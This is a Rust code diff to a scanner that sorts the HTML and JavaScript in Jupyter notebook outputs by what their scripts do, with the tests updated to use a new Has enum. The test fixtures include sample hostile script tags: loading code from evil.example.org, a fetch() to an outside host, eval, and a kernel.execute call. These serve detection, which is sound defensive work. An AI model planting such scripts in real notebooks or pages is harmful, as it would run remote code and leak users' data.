@@ -60,13 +60,23 @@ pub(super) struct Data {
     svg: Source,
 }
 
+/// What an output has a browser do, the least first.
+#[derive(Debug, PartialEq, Eq, PartialOrd, Ord)]
+pub(super) enum Has {
+    Nothing,
+    /// Run a script, which draws as far as is known.
+    Script,
+    /// Run one that does this.
+    Acts(String),
+}
+
 impl Output {
-    /// Whether it holds a script, and what that does beside drawing.
-    pub(super) fn script(self) -> Option<Option<String>> {
+    /// What a browser would run of it.
+    pub(super) fn has(self) -> Has {
         let (pages, script) = match self {
             Self::Shown { data } => ([data.html, data.svg], data.javascript),
             Self::Older { html, javascript } => ([html, Source::default()], javascript),
-            Self::Other(_) => return None,
+            Self::Other(_) => return Has::Nothing,
         };
         let script = script.text().unwrap_or_default();
         let pages = pages.map(|page| page.text().unwrap_or_default());
@@ -74,10 +84,11 @@ impl Output {
         if !script.is_empty() {
             scripts.push(Script { fetched: None, text: &script });
         }
-        if scripts.is_empty() {
-            return None;
+        match scripts.iter().find_map(Script::does) {
+            Some(does) => Has::Acts(does),
+            None if scripts.is_empty() => Has::Nothing,
+            None => Has::Script,
         }
-        Some(scripts.iter().find_map(Script::does))
     }
 }
 
@@ -158,37 +169,40 @@ fn says(text: &str, word: &str) -> bool {
 mod tests {
     use super::*;
 
+    fn acts(does: &str) -> Has {
+        Has::Acts(does.to_owned())
+    }
+
     #[test]
     fn scripts_are_told_by_what_they_do() {
         for (html, told) in [
-            ("<table><tr><td>1</td></tr></table>", None),
-            ("<script>draw(1)</script>", Some(None)),
-            ("<script type=\"application/json\">{}</script>", None),
-            ("<script src=\"https://cdn.plot.ly/plotly-2.27.0.min.js\"></script>", Some(None)),
+            ("<table><tr><td>1</td></tr></table>", Has::Nothing),
+            ("<script>draw(1)</script>", Has::Script),
+            ("<script type=\"application/json\">{}</script>", Has::Nothing),
+            ("<script src=\"https://cdn.plot.ly/plotly-2.27.0.min.js\"></script>", Has::Script),
             (
                 "<script>require.config({paths: {'plotly': ['https://cdn.plot.ly/plotly-2.27.0.min']}})</script>",
-                Some(None),
+                Has::Script,
             ),
             (
                 "<script src='//evil.example.org/x.js'></script>",
-                Some(Some("fetches code from evil.example.org")),
+                acts("fetches code from evil.example.org"),
             ),
             (
                 "<b>x</b><SCRIPT>fetch('https://a.example.org/?' + x)</SCRIPT>",
-                Some(Some("reaches a.example.org")),
+                acts("reaches a.example.org"),
             ),
-            ("<script>eval(x)</script>", Some(Some("makes code and runs it"))),
-            ("<script>retrieval(x) // see https://a.example.org</script>", Some(None)),
+            ("<script>eval(x)</script>", acts("makes code and runs it")),
+            ("<script>retrieval(x) // see https://a.example.org</script>", Has::Script),
             (
                 "<script>Jupyter.notebook.kernel.execute('x')</script>",
-                Some(Some("has the kernel run code")),
+                acts("has the kernel run code"),
             ),
-            ("<script>fetch('https://a.example.org')", Some(Some("reaches a.example.org"))),
+            ("<script>fetch('https://a.example.org')", acts("reaches a.example.org")),
         ] {
             let output = serde_json::json!({ "data": { "text/html": [html] } });
             let output: Output = serde_json::from_value(output).unwrap();
-            let found = output.script();
-            assert_eq!(found.as_ref().map(Option::as_deref), told, "{html}");
+            assert_eq!(output.has(), told, "{html}");
         }
     }
 
@@ -197,7 +211,7 @@ mod tests {
         let page = format!("<script>{}eval(x)</script>", "plot();".repeat(20_000));
         let output = serde_json::json!({ "data": { "text/html": page } });
         let output: Output = serde_json::from_value(output).unwrap();
-        assert_eq!(output.script(), Some(None));
+        assert_eq!(output.has(), Has::Script);
     }
 
     #[test]
@@ -210,7 +224,7 @@ mod tests {
             "null",
         ] {
             let output: Output = serde_json::from_str(output).unwrap();
-            assert_eq!(output.script(), None);
+            assert_eq!(output.has(), Has::Nothing);
         }
     }
 }
